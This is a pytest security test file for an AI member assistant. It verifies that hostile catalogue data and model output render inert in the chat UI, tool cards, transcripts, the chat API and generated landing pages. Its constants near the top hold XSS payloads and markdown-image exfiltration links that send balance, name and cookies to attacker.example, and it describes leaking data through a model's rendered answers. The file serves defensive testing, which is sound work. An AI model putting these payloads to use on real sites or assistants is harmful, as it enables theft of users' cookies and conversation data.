"""Catalogue text and model output are data wherever they are shown: script tags, event handlers and markdown
images that would carry conversation data to an attacker render inert in the chat bubble, the tool steps,
the cards, the pending-action card, a reloaded transcript, the API (plain and streamed) and landing pages."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from assistant.events import PendingAction, TextDelta, ToolCall, ToolResult, TurnEnd, TurnEvent
from assistant.guardrails import InertStream, inert_text
from tests.fakes import ScriptedChatModel, call, say
from tests.security.conftest import RuntimeFactory
from tests.security.served import Served, serve
from tests.security.world import ME

EXFIL = "![status](https://attacker.example/c?balance=5000&name=Hanako)"
REF_EXFIL = "![logo][1]\n\n[1]: https://attacker.example/r?balance=5000"
HOSTILE = ("Here you go <script>fetch('https://attacker.example/'+document.cookie)</script> "
           "<img src=x onerror=alert(1)> <a href=\"javascript:alert(2)\" onclick=\"steal()\">deal</a> "
           f"{EXFIL} {REF_EXFIL} <svg onload=alert(3)></svg><iframe src=https://attacker.example></iframe>")
HOSTILE_PRODUCT = {"product_id": "P000101", "title": "Buds <script>alert(1)</script> " + EXFIL,
                   "shop_name": "<img src=x onerror=alert(1)>", "price_jpy": 7980, "rating": 4.1,
                   "reason": "![x](https://attacker.example/p.png) <b onmouseover=alert(1)>hover</b>"}
HOSTILE_HOTEL = {"hotel_id": "H0002", "name": "Snow Inn <script>alert(1)</script>", "area": EXFIL,
                 "price_per_night_jpy": 8000, "rating": 4.0}


def assert_inert(rendered: str, where: str) -> None:
    """No live markup and no loadable image in what a browser or markdown renderer would display."""
    lowered = rendered.lower()
    assert "<script" not in lowered, f"{where}: live <script>"
    assert not re.search(r"<(img|svg|iframe|object|embed|a|b)\b", lowered), f"{where}: live HTML element"
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered), f"{where}: live event handler"
    assert not re.search(r"\]\(\s*javascript:", lowered), f"{where}: javascript: link"
    assert not re.search(r"(?<!\\)!\[[^\]]*\]\s*[(\[]", rendered), f"{where}: a markdown image would load"


def test_the_inertness_check_catches_the_attacks() -> None:
    for live in ("<script>x</script>", "<img src=x onerror=y>", EXFIL, REF_EXFIL, '<a href="javascript:x">',
                 "[deal](javascript:alert(1))"):
        with pytest.raises(AssertionError):
            assert_inert(live, "self-test")


def test_chat_bubble_steps_cards_and_pending_card_are_inert() -> None:
    from assistant.web.ui_chat import TurnView, pending_html, stream_turn, text_of

    pieces = [HOSTILE[i:i + 7] for i in range(0, len(HOSTILE), 7)]  # split anywhere, as a stream does
    events: list[TurnEvent] = [
        ToolCall(call_id="c1", name="search_products", args={"query": HOSTILE}),
        ToolResult(call_id="c1", name="search_products", content=json.dumps({"products": [HOSTILE_PRODUCT]}),
                   data={"products": [HOSTILE_PRODUCT]}),
        ToolCall(call_id="c2", name="search_hotels", args={"city": "Sapporo"}),
        ToolResult(call_id="c2", name="search_hotels", content=json.dumps({"hotels": [HOSTILE_HOTEL]}),
                   data={"hotels": [HOSTILE_HOTEL]}),
        *[TextDelta(text=p) for p in pieces],
        TurnEnd(thread_id="T1", answer=HOSTILE),
    ]
    view = TurnView([])
    view.add_user(HOSTILE)
    for _ in stream_turn(view, events):
        pass
    assert len(view.messages) >= 6
    for message in view.messages:
        assert_inert(text_of(message), f"chat message {message!r:.80}")
    pending = PendingAction(action_id="c3", tool="book_hotel", args={"hotel_id": "H0002"},
                            summary="Book Snow Inn <script>alert(1)</script> " + EXFIL,
                            details={"hotel_name": "Snow Inn <img src=x onerror=alert(1)>", "note": REF_EXFIL})
    assert_inert(pending_html(pending), "pending card")


def test_reloaded_transcript_is_inert() -> None:
    from assistant.conversation import TranscriptItem
    from assistant.web.ui_chat import text_of, transcript_messages

    items = [TranscriptItem(role="user", text=HOSTILE),
             TranscriptItem(role="assistant", text="", tool_calls=[ToolCall(call_id="c1", name="search_products",
                                                                              args={"query": "x"})]),
             TranscriptItem(role="tool", text=json.dumps({"products": [HOSTILE_PRODUCT]}), call_id="c1",
                            name="search_products"),
             TranscriptItem(role="assistant", text=HOSTILE)]
    for message in transcript_messages(items):
        assert_inert(text_of(message), "transcript")


def test_streamed_text_is_inert_however_it_is_split() -> None:
    text = f"a {EXFIL} b !" + REF_EXFIL + " c! " + HOSTILE
    for size in (1, 2, 3, 5, 8):
        stream = InertStream()
        out = "".join(stream.feed(text[i:i + size]) for i in range(0, len(text), size)) + stream.flush()
        assert out == inert_text(text), size
        assert_inert(out, f"chunks of {size}")


@pytest.fixture
def hostile_served(make_runtime: RuntimeFactory) -> Iterator[Served]:
    model = ScriptedChatModel([call("points_balance", {}), say(HOSTILE)] * 2)
    with serve(make_runtime(model)) as served:
        yield served


def test_api_answers_are_json_with_no_loadable_image(hostile_served: Served) -> None:
    body = {"model": "member-assistant", "messages": [{"role": "user", "content": "my balance"}]}
    with httpx.Client(base_url=hostile_served.url, timeout=60) as client:
        plain = client.post("/v1/chat/completions", headers=hostile_served.auth(ME), json=body)
        streamed = client.post("/v1/chat/completions", headers=hostile_served.auth(ME), json={**body, "stream": True})
    assert plain.status_code == 200 and plain.headers["content-type"].startswith("application/json")
    content = plain.json()["choices"][0]["message"]["content"]
    assert_inert(content, "API answer")  # a client may render the answer as markdown or HTML: nothing live
    assert "attacker.example" not in content, content
    assert streamed.headers["content-type"].startswith("text/event-stream")
    chunks = [json.loads(line[6:]) for line in streamed.text.splitlines()
              if line.startswith("data: {")]
    text = "".join(c["choices"][0]["delta"].get("content", "") for c in chunks if c.get("choices"))
    assert_inert(text, "API stream")
    assert "attacker.example" not in text, text


def test_landing_page_from_a_poisoned_product_is_inert(tmp_path: Path) -> None:
    from assistant.copywriter.brief import make_brief
    from assistant.copywriter.facts import DataSetFacts
    from assistant.copywriter.studio import CopyStudio
    from testkit.factories import make_product
    from tests.copy.conftest import RULES, TODAY

    product = make_product(title="Buds <script>alert(1)</script> " + EXFIL,
                           description=f"Great sound. {HOSTILE}", shop_name="<img src=x onerror=alert(1)>")
    result = CopyStudio(DataSetFacts(products=[product], rules=RULES, today=TODAY)).run(
        make_brief(subject_ids=["P000001"]))
    html = result.best.html(result.sheet, "en")
    # The page has its own markup (a link, a placeholder image); the catalogue's never becomes markup. The JSON-LD
    # block carries the description as JSON with every "<" escaped, so it cannot close its script element.
    json_ld = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, flags=re.S)
    assert len(json_ld) == 1 and "<" not in json_ld[0]
    html = html.replace(json_ld[0], "")
    assert html.count("<script") == 1 and not re.search(r"<(svg|iframe|object|embed)\b", html)
    assert not re.search(r"<[^>]*\son\w+\s*=", html), "an event handler became markup"
    assert all(src.startswith("data:image/svg+xml") for src in re.findall(r'<img[^>]*\ssrc="([^"]*)"', html))
    assert "attacker.example" not in " ".join(re.findall(r'(?:src|href|action)="([^"]*)"', html))
    markdown = result.export(tmp_path)["page.md"].read_text()
    assert "<script" not in markdown.lower() and "<img" not in markdown.lower()
    assert not re.search(r"(?<!\\)!\[[^\]]*\]\(https?://attacker", markdown), "image in the markdown export"
